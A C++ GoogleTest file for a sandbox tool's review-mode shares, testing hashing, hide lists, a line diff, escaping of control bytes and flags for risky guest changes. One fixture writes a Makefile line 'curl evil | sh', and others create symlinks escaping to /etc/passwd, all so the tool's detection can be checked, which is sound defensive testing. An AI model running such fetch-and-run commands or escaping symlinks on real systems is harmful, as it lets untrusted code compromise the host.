// Review-mode shares: hashing, hide rules, the line diff, flags, prepare and diff on
// temporary trees.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <nlohmann/json.hpp>
#include <random>

#include "sbx/share/changes.hpp"
#include "sbx/share/display.hpp"
#include "sbx/share/hide.hpp"
#include "sbx/share/line_diff.hpp"
#include "sbx/share/render.hpp"
#include "sbx/share/sha256.hpp"
#include "sbx/share/snapshot.hpp"
#include "sbx/util/error.hpp"
#include "test_support.hpp"

namespace fs = std::filesystem;
using namespace sbx;
using namespace sbx::share;

namespace {

// A host folder and a share folder under one temp dir.
struct Trees {
    test::TempDir tmp;
    fs::path host = tmp.path() / "host";
    instance::ShareLayout share{tmp.path() / "shares" / "0"};

    Trees() { fs::create_directories(host); }

    fs::path put(const fs::path& root, const std::string& rel, const std::string& content,
                 mode_t mode = 0644) const {
        auto p = root / rel;
        fs::create_directories(p.parent_path());
        std::ofstream(p, std::ios::binary) << content;
        ::chmod(p.c_str(), mode);
        return p;
    }
    fs::path host_file(const std::string& rel, const std::string& content, mode_t mode = 0644) const {
        return put(host, rel, content, mode);
    }
    fs::path work_file(const std::string& rel, const std::string& content, mode_t mode = 0644) const {
        return put(share.work(), rel, content, mode);
    }
    PrepareReport prepare(const std::vector<std::string>& hide = {}) const {
        return share::prepare(host, hide, "/work", share);
    }
};

const Change* find(const DiffResult& d, const std::string& path) {
    for (const auto& c : d.changes) {
        if (c.path == path) {
            return &c;
        }
    }
    return nullptr;
}

// Longest common subsequence length, by dynamic programming (the reference).
std::size_t lcs(const std::vector<std::string_view>& a, const std::vector<std::string_view>& b) {
    std::vector<std::vector<std::size_t>> t(a.size() + 1, std::vector<std::size_t>(b.size() + 1, 0));
    for (std::size_t i = 1; i <= a.size(); ++i) {
        for (std::size_t j = 1; j <= b.size(); ++j) {
            t[i][j] = a[i - 1] == b[j - 1] ? t[i - 1][j - 1] + 1 : std::max(t[i - 1][j], t[i][j - 1]);
        }
    }
    return t[a.size()][b.size()];
}

}  // namespace

TEST(ShareSha256, KnownVectors) {
    EXPECT_EQ(sha256_hex(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    EXPECT_EQ(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    EXPECT_EQ(sha256_hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
              "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
    // Fed in odd pieces, a million 'a's.
    Sha256 h;
    std::string chunk(997, 'a');
    std::size_t left = 1'000'000;
    while (left > 0) {
        std::size_t n = std::min(left, chunk.size());
        h.add(std::string_view(chunk).substr(0, n));
        left -= n;
    }
    EXPECT_EQ(h.hex(), "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(ShareHide, NamesMatchAtAnyDepthPathsAtTheRoot) {
    HideList hide({".git", ".env", "secrets/*.pem", "*.key", "/build/"});
    EXPECT_TRUE(hide.hides(".git"));
    EXPECT_TRUE(hide.hides(".git/config"));
    EXPECT_TRUE(hide.hides("sub/.git/HEAD"));
    EXPECT_TRUE(hide.hides("a/b/.env"));
    EXPECT_FALSE(hide.hides(".envrc"));
    EXPECT_TRUE(hide.hides("secrets/a.pem"));
    EXPECT_FALSE(hide.hides("secrets/a.txt"));
    EXPECT_FALSE(hide.hides("x/secrets/a.pem"));  // anchored at the root
    EXPECT_TRUE(hide.hides("deep/in/id.key"));
    EXPECT_TRUE(hide.hides("build/out.o"));
    EXPECT_FALSE(hide.hides("src/build/out.o"));
    EXPECT_TRUE(hide.matches_exactly("secrets/b.pem"));
    EXPECT_FALSE(hide.matches_exactly("sub/.git/HEAD"));
    EXPECT_EQ(hide.hidden_by("sub/.git/HEAD").value_or(""), ".git");
}

TEST(ShareHide, BadEntriesAreConfigErrors) {
    for (std::string bad : {"", "/", "../x", "a/../b", "a//b", "./a"}) {
        try {
            HideList h({bad});
            FAIL() << "accepted \"" << bad << "\"";
        } catch (const Error& e) {
            EXPECT_EQ(e.code(), ExitCode::config) << bad;
        }
    }
}

TEST(ShareLineDiff, GoldenHunks) {
    EXPECT_EQ(unified_diff("a\nb\nc\n", "a\nB\nc\n").text, "@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n");
    EXPECT_EQ(unified_diff("", "x\ny\n").text, "@@ -0,0 +1,2 @@\n+x\n+y\n");
    EXPECT_EQ(unified_diff("x\n", "").text, "@@ -1 +0,0 @@\n-x\n");
    EXPECT_EQ(unified_diff("a\n", "a").text, "@@ -1 +1 @@\n-a\n+a\n\\ No newline at end of file\n");
    EXPECT_EQ(unified_diff("same\n", "same\n").text, "");

    std::string twelve;
    for (int i = 1; i <= 12; ++i) {
        twelve += std::to_string(i) + "\n";
    }
    std::string changed = twelve;
    changed.replace(0, 2, "one\n");
    changed.replace(changed.rfind("12\n"), 3, "twelve\n");
    auto u = unified_diff(twelve, changed);
    EXPECT_EQ(u.text,
              "@@ -1,4 +1,4 @@\n-1\n+one\n 2\n 3\n 4\n"
              "@@ -9,4 +9,4 @@\n 9\n 10\n 11\n-12\n+twelve\n");
    EXPECT_EQ(u.added, 2u);
    EXPECT_EQ(u.removed, 2u);

    // Changes 6 unchanged lines apart share one hunk.
    std::string ten;
    for (int i = 1; i <= 10; ++i) {
        ten += std::to_string(i) + "\n";
    }
    std::string ten2 = ten;
    ten2.replace(ten2.find("2\n"), 2, "two\n");
    ten2.replace(ten2.find("9\n"), 2, "nine\n");
    EXPECT_EQ(unified_diff(ten, ten2).text,
              "@@ -1,10 +1,10 @@\n 1\n-2\n+two\n 3\n 4\n 5\n 6\n 7\n 8\n-9\n+nine\n 10\n");

    // Insertion in the middle with context on both sides.
    EXPECT_EQ(unified_diff("a\nb\nc\nd\ne\nf\ng\nh\n", "a\nb\nc\nd\nNEW\ne\nf\ng\nh\n").text,
              "@@ -2,6 +2,7 @@\n b\n c\n d\n+NEW\n e\n f\n g\n");
}

TEST(ShareLineDiff, GuestBytesAreEscaped) {
    EXPECT_EQ(unified_diff("", "\x1b[31mred\r\n").text, "@@ -0,0 +1 @@\n+^[[31mred^M\n");
    EXPECT_EQ(display_text("ok\xe2\x80\xae"
                           "evil"),
              "ok<U+202E>evil");
    EXPECT_EQ(display_text("bad\xff"), "bad\\xff");
    EXPECT_EQ(display_text("caf\xc3\xa9\tx"), "caf\xc3\xa9\tx");
    EXPECT_EQ(display_path("plain/name.c"), "plain/name.c");
    EXPECT_EQ(display_path("new\nline"), "\"new\\nline\"");
    EXPECT_EQ(display_path("esc\x1b"), "\"esc\\033\"");
}

TEST(ShareLineDiff, ColourOnlyWhenAsked) {
    UnifiedOptions o;
    o.color = true;
    auto t = unified_diff("a\n", "b\n", o).text;
    EXPECT_NE(t.find("\x1b[31m-a\x1b[0m"), std::string::npos);
    EXPECT_NE(t.find("\x1b[32m+b\x1b[0m"), std::string::npos);
    EXPECT_EQ(unified_diff("a\n", "b\n").text.find('\x1b'), std::string::npos);
}

TEST(ShareLineDiff, MinimalAndValidOnRandomInputs) {
    std::mt19937 rng(12345);
    std::vector<std::string> alphabet = {"a\n", "b\n", "c\n", "d\n"};
    for (int round = 0; round < 300; ++round) {
        std::vector<std::string_view> a;
        std::vector<std::string_view> b;
        std::size_t na = rng() % 30;
        std::size_t nb = rng() % 30;
        for (std::size_t i = 0; i < na; ++i) {
            a.push_back(alphabet[rng() % alphabet.size()]);
        }
        for (std::size_t i = 0; i < nb; ++i) {
            b.push_back(alphabet[rng() % alphabet.size()]);
        }
        for (std::size_t budget : {std::size_t{0}, std::size_t{3}}) {
            auto m = diff_lines(a, b, budget);
            std::vector<std::string_view> kept_a;
            std::vector<std::string_view> kept_b;
            std::size_t edits = 0;
            for (std::size_t i = 0; i < a.size(); ++i) {
                if (m.removed[i]) {
                    ++edits;
                } else {
                    kept_a.push_back(a[i]);
                }
            }
            for (std::size_t j = 0; j < b.size(); ++j) {
                if (m.added[j]) {
                    ++edits;
                } else {
                    kept_b.push_back(b[j]);
                }
            }
            ASSERT_EQ(kept_a, kept_b) << "round " << round;  // a valid edit script
            if (budget == 0) {
                ASSERT_EQ(edits, a.size() + b.size() - 2 * lcs(a, b)) << "round " << round;  // and minimal
            }
        }
    }
}

TEST(ShareFlags, RunsOnHost) {
    EXPECT_EQ(runs_on_host(".github/workflows/ci.yml").value_or(""), "CI workflow");
    EXPECT_EQ(runs_on_host(".gitlab-ci.yml").value_or(""), "CI workflow");
    EXPECT_EQ(runs_on_host(".circleci/config.yml").value_or(""), "CI workflow");
    EXPECT_EQ(runs_on_host("sub/Makefile").value_or(""), "build file (Makefile)");
    EXPECT_EQ(runs_on_host("rules/common.mk").value_or(""), "build file (Makefile)");
    EXPECT_EQ(runs_on_host("web/package.json").value_or(""), "npm package (scripts)");
    EXPECT_EQ(runs_on_host(".envrc").value_or(""), "direnv (.envrc)");
    EXPECT_EQ(runs_on_host(".vscode/tasks.json").value_or(""), "editor tasks");
    EXPECT_EQ(runs_on_host(".git/hooks/pre-commit").value_or(""), "git hook");
    EXPECT_EQ(runs_on_host(".husky/pre-push").value_or(""), "git hook (husky)");
    EXPECT_EQ(runs_on_host(".bashrc").value_or(""), "shell startup file");
    EXPECT_EQ(runs_on_host("Dockerfile").value_or(""), "container build file");
    EXPECT_FALSE(runs_on_host("src/main.c"));
    EXPECT_FALSE(runs_on_host("docs/workflows/x.md"));
    EXPECT_FALSE(runs_on_host(".vscode/extensions.json"));
}

TEST(ShareFlags, SymlinkEscapesLexically) {
    EXPECT_FALSE(symlink_escapes("a/l", "../b"));
    EXPECT_TRUE(symlink_escapes("l", "../x"));
    EXPECT_FALSE(symlink_escapes("a/b/l", "../../x"));
    EXPECT_TRUE(symlink_escapes("a/l", "../../x"));
    EXPECT_TRUE(symlink_escapes("l", "/etc/passwd"));
    EXPECT_TRUE(symlink_escapes("l", "a/../../x"));
    EXPECT_FALSE(symlink_escapes("l", "a/./b/../c"));
}

TEST(SharePrepare, CopiesTreeSkipsHiddenAndSpecialStripsSetuid) {
    Trees t;
    t.host_file("src/main.c", "int main() {}\n");
    t.host_file(".git/config", "[core]\n");
    t.host_file("sub/.env", "TOKEN=1\n");
    t.host_file("secrets/id.pem", "KEY\n");
    t.host_file("secrets/readme.txt", "ok\n");
    auto tool = t.host_file("bin/tool", "#!/bin/sh\n", 0755);
    ASSERT_EQ(::chmod(tool.c_str(), 04755), 0);
    struct stat st {};
    ASSERT_EQ(::stat(tool.c_str(), &st), 0);
    if ((st.st_mode & S_ISUID) == 0) {
        GTEST_SKIP() << "skipped: this file system does not keep the setuid bit";
    }
    fs::create_symlink("src/main.c", t.host / "link");
    ASSERT_EQ(::mkfifo((t.host / "pipe").c_str(), 0644), 0);

    auto report = t.prepare({".git", ".env", "secrets/*.pem"});
    for (const auto& root : {t.share.base(), t.share.work()}) {
        EXPECT_EQ(test::slurp(root / "src/main.c"), "int main() {}\n");
        EXPECT_FALSE(fs::exists(root / ".git"));
        EXPECT_FALSE(fs::exists(root / "sub/.env"));
        EXPECT_FALSE(fs::exists(root / "secrets/id.pem"));
        EXPECT_TRUE(fs::exists(root / "secrets/readme.txt"));
        EXPECT_FALSE(fs::exists(fs::symlink_status(root / "pipe")));
        EXPECT_TRUE(fs::is_symlink(root / "link"));
        EXPECT_EQ(fs::read_symlink(root / "link"), "src/main.c");
        ASSERT_EQ(::stat((root / "bin/tool").c_str(), &st), 0);
        EXPECT_EQ(st.st_mode & 07777, 0755u);
    }
    EXPECT_EQ(report.hidden, 3u);
    bool fifo_note = false;
    bool setuid_note = false;
    for (const auto& n : report.notes) {
        fifo_note = fifo_note || n.find("fifo pipe") != std::string::npos;
        setuid_note = setuid_note || n.find("bin/tool") != std::string::npos;
    }
    EXPECT_TRUE(fifo_note);
    EXPECT_TRUE(setuid_note);

    auto meta = read_meta(t.share);
    EXPECT_EQ(meta.host_root, t.host);
    EXPECT_EQ(meta.guest, "/work");
    ASSERT_TRUE(meta.files.count("src/main.c"));
    const auto& id = meta.files.at("src/main.c");
    EXPECT_EQ(id.kind, EntryKind::file);
    EXPECT_EQ(id.size, 14u);
    EXPECT_EQ(id.sha256, sha256_hex("int main() {}\n"));
    ASSERT_EQ(::stat((t.host / "src/main.c").c_str(), &st), 0);
    EXPECT_EQ(id.inode, st.st_ino);
    EXPECT_EQ(meta.files.at("link").target, "src/main.c");
    EXPECT_FALSE(meta.files.count(".git/config"));
    EXPECT_FALSE(meta.files.count("pipe"));
    EXPECT_FALSE(has_pending_changes(t.share));
    ASSERT_EQ(::stat(t.share.dir.c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0700u);
}

TEST(SharePrepare, RefusesToDropPendingChanges) {
    Trees t;
    t.host_file("a.txt", "one\n");
    t.prepare();
    EXPECT_FALSE(has_pending_changes(t.share));
    t.work_file("a.txt", "two\n");
    EXPECT_TRUE(has_pending_changes(t.share));
    EXPECT_THROW(t.prepare(), Error);
    EXPECT_EQ(test::slurp(t.share.work() / "a.txt"), "two\n");
    PrepareOptions o;
    o.discard_pending = true;
    share::prepare(t.host, {}, "/work", t.share, o);
    EXPECT_EQ(test::slurp(t.share.work() / "a.txt"), "one\n");
    EXPECT_FALSE(has_pending_changes(t.share));
}

TEST(ShareDiff, NeverPreparedIsNotFound) {
    Trees t;
    try {
        diff(t.share);
        FAIL() << "no error";
    } catch (const Error& e) {
        EXPECT_EQ(e.code(), ExitCode::not_found);
        EXPECT_NE(std::string(e.what()).find("never prepared"), std::string::npos);
    }
}

TEST(ShareDiff, KindsOfChange) {
    Trees t;
    t.host_file("keep.txt", "same\n");
    t.host_file("mod.txt", "old\n");
    t.host_file("gone.txt", "bye\n");
    t.host_file("script.sh", "echo hi\n", 0644);
    t.host_file("becomes_link", "file\n");
    t.host_file("dir2file/inner.txt", "x\n");
    t.prepare();

    t.work_file("mod.txt", "new\n");
    t.work_file("new/added.txt", "hello\n");
    fs::remove(t.share.work() / "gone.txt");
    ::chmod((t.share.work() / "script.sh").c_str(), 0755);
    fs::remove(t.share.work() / "becomes_link");
    fs::create_symlink("keep.txt", t.share.work() / "becomes_link");
    fs::create_symlink("new/added.txt", t.share.work() / "inside_link");
    fs::remove_all(t.share.work() / "dir2file");
    t.work_file("dir2file", "now a file\n");

    auto d = diff(t.share);
    std::vector<std::string> paths;
    for (const auto& c : d.changes) {
        paths.push_back(c.path);
    }
    EXPECT_EQ(paths,
              (std::vector<std::string>{"becomes_link", "dir2file", "dir2file/inner.txt", "gone.txt",
                                        "inside_link", "mod.txt", "new", "new/added.txt", "script.sh"}));
    EXPECT_EQ(find(d, "mod.txt")->kind, ChangeKind::modified);
    EXPECT_EQ(find(d, "new")->kind, ChangeKind::added);
    EXPECT_EQ(find(d, "new")->work.kind, EntryKind::dir);
    EXPECT_EQ(find(d, "new/added.txt")->kind, ChangeKind::added);
    EXPECT_EQ(find(d, "gone.txt")->kind, ChangeKind::deleted);
    EXPECT_TRUE(find(d, "gone.txt")->has(FlagKind::deletion));
    EXPECT_EQ(find(d, "script.sh")->kind, ChangeKind::mode_changed);
    EXPECT_TRUE(find(d, "script.sh")->has(FlagKind::mode_change));
    EXPECT_TRUE(find(d, "script.sh")->has(FlagKind::new_executable));
    EXPECT_EQ(find(d, "becomes_link")->kind, ChangeKind::type_changed);
    EXPECT_TRUE(find(d, "becomes_link")->has(FlagKind::symlink));
    EXPECT_EQ(find(d, "inside_link")->work.target, "new/added.txt");
    EXPECT_TRUE(find(d, "inside_link")->has(FlagKind::symlink));
    EXPECT_FALSE(find(d, "inside_link")->has(FlagKind::symlink_outside));
    EXPECT_EQ(find(d, "dir2file")->kind, ChangeKind::type_changed);
    EXPECT_TRUE(find(d, "dir2file")->has(FlagKind::deletion));
    EXPECT_EQ(find(d, "dir2file/inner.txt")->kind, ChangeKind::deleted);
    EXPECT_FALSE(find(d, "mod.txt")->conflict());
    EXPECT_TRUE(find(d, "keep.txt") == nullptr);
}

TEST(ShareDiff, FlagsWhatDeservesASecondLook) {
    Trees t;
    t.host_file("Makefile", "all:\n");
    t.host_file("sub/dir/x", "x\n");
    t.prepare();
    t.work_file(".github/workflows/ci.yml", "on: push\n");
    t.work_file("Makefile", "all:\n\tcurl evil | sh\n");
    t.work_file("package.json", "{\"scripts\":{\"postinstall\":\"sh x\"}}\n");
    t.work_file(".envrc", "export X=1\n");
    t.work_file("tool", "#!/bin/sh\n", 0755);
    auto suid = t.work_file("suid", "#!/bin/sh\n", 0755);
    ::chmod(suid.c_str(), 04755);
    fs::create_symlink("/etc/passwd", t.share.work() / "abs_link");
    fs::create_symlink("../../../../etc", t.share.work() / "sub/dir/up_link");
    fs::create_symlink("..", t.share.work() / "sub/dir/parent");             // stays inside
    fs::create_symlink("sub/dir/up_link/passwd", t.share.work() / "chain");  // via another link
    ASSERT_EQ(::mkfifo((t.share.work() / "fifo").c_str(), 0644), 0);

    auto d = diff(t.share);
    auto has = [&](const std::string& p, FlagKind k) {
        auto* c = find(d, p);
        return c && c->has(k);
    };
    EXPECT_TRUE(has(".github/workflows/ci.yml", FlagKind::runs_on_host));
    EXPECT_TRUE(has("Makefile", FlagKind::runs_on_host));
    EXPECT_TRUE(has("package.json", FlagKind::runs_on_host));
    EXPECT_TRUE(has(".envrc", FlagKind::runs_on_host));
    EXPECT_TRUE(has("tool", FlagKind::new_executable));
    EXPECT_FALSE(has(".envrc", FlagKind::new_executable));
    struct stat st {};
    ::stat(suid.c_str(), &st);
    if (st.st_mode & S_ISUID) {
        EXPECT_TRUE(has("suid", FlagKind::setuid));
    }
    EXPECT_TRUE(has("abs_link", FlagKind::symlink_outside));
    EXPECT_TRUE(has("sub/dir/up_link", FlagKind::symlink_outside));
    EXPECT_FALSE(has("sub/dir/parent", FlagKind::symlink_outside));
    EXPECT_TRUE(has("sub/dir/parent", FlagKind::symlink));
    EXPECT_TRUE(has("chain", FlagKind::symlink_outside));
    EXPECT_TRUE(has("fifo", FlagKind::special_file));
    for (const auto& c : d.changes) {
        for (const auto& f : c.flags) {
            if (f.kind == FlagKind::symlink_outside || f.kind == FlagKind::special_file) {
                EXPECT_TRUE(f.loud) << c.path;
            }
        }
    }
    auto* ci = find(d, ".github/workflows/ci.yml");
    ASSERT_TRUE(ci);
    EXPECT_EQ(flag_lines(*ci, false), "! runs on the host: CI workflow\n");
}

TEST(ShareDiff, HostChangesAreConflicts) {
    Trees t;
    t.host_file("a.txt", "one\n");
    t.host_file("b.txt", "one\n");
    t.prepare();
    t.work_file("a.txt", "guest\n");
    t.work_file("b.txt", "guest\n");
    t.work_file("c.txt", "guest\n");
    t.host_file("a.txt", "host\n");  // a real change
    t.host_file("c.txt", "host\n");  // created on the host too
    // b.txt only touched: same content, new mtime.
    struct timespec times[2] = {{0, UTIME_OMIT}, {12345, 0}};
    ASSERT_EQ(::utimensat(AT_FDCWD, (t.host / "b.txt").c_str(), times, 0), 0);
    auto d = diff(t.share);
    EXPECT_TRUE(find(d, "a.txt")->conflict());
    EXPECT_FALSE(find(d, "b.txt")->conflict());
    EXPECT_TRUE(find(d, "c.txt")->conflict());
}

TEST(ShareDiff, HiddenPathsTheGuestCreatesAreListedApart) {
    Trees t;
    t.host_file("a.txt", "one\n");
    t.prepare({".git", ".env"});
    t.work_file(".git/HEAD", "ref\n");
    t.work_file("x/.env", "SECRET=1\n");
    t.work_file("b.txt", "two\n");
    auto d = diff(t.share);
    ASSERT_EQ(d.changes.size(), 2u);  // x/ and b.txt
    EXPECT_EQ(d.changes[0].path, "b.txt");
    EXPECT_EQ(d.changes[1].path, "x");
    EXPECT_EQ(d.hidden, (std::vector<std::string>{".git", "x/.env"}));
    EXPECT_EQ(hidden_note(d.hidden),
              "note: 2 paths the guest created are hidden by the share's hide list (never applied): .git, "
              "x/.env\n");
}

TEST(ShareRender, DiffAndStatOutput) {
    Trees t;
    t.host_file("Makefile", "all:\n\techo hi\n");
    t.host_file("old.txt", "bye\n");
    t.prepare();
    t.work_file("Makefile", "all:\n\techo hello\n");
    t.work_file("bin.dat", std::string("\0\1\2", 3));
    fs::remove(t.share.work() / "old.txt");
    auto d = diff(t.share);
    RenderOptions ro;
    EXPECT_EQ(render_diff(t.share, d.changes, ro),
              "! runs on the host: build file (Makefile)\n"
              "diff --git a/Makefile b/Makefile\n"
              "--- a/Makefile\n"
              "+++ b/Makefile\n"
              "@@ -1,2 +1,2 @@\n"
              " all:\n"
              "-\techo hi\n"
              "+\techo hello\n"
              "diff --git a/bin.dat b/bin.dat\n"
              "new file mode 100644\n"
              "Binary files /dev/null and b/bin.dat differ\n"
              "! deleted\n"
              "diff --git a/old.txt b/old.txt\n"
              "deleted file mode 100644\n"
              "--- a/old.txt\n"
              "+++ /dev/null\n"
              "@@ -1 +0,0 @@\n"
              "-bye\n");
    EXPECT_EQ(render_stat(t.share, d.changes, ro),
              " Makefile  | 2 +-  ! runs on the host: build file (Makefile)\n"
              " bin.dat   | Bin 0 -> 3 bytes\n"
              " old.txt   | 1 -  ! deleted\n"
              " 3 paths changed, 1 insertion(+), 2 deletions(-), 2 flagged\n");
}
